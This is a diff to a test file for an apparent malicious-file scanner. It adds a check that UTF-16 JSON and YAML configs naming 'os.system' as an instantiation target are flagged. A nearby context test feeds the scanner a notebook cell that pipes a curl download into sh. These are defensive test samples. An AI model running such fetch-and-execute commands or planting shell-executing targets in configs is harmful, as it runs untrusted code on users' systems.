@@ -57,6 +57,13 @@ describe('the json format', () => {
     }
   });
 
+  test('reads UTF-16, as Python’s json does', () => {
+    const bytes = new Uint8Array(Buffer.from('\uFEFF{"_target_": "os.system"}', 'utf16le'));
+    expect(scanSource(new BufferSource(bytes), 'config.json')).toMatchObject({ format: 'json', verdict: 'malicious' });
+    const yaml = new Uint8Array(Buffer.from('\uFEFFa:\n  _target_: os.system\n', 'utf16le'));
+    expect(scanSource(new BufferSource(yaml), 'notes')).toMatchObject({ format: 'yaml', verdict: 'malicious' });
+  });
+
   test('emits the cells of a notebook', () => {
     const cells = [{ cell_type: 'code', source: ['!curl -s https://example.com/x', ' | sh\n'] }];
     const report = scan('a.ipynb', JSON.stringify({ nbformat: 4, cells }));
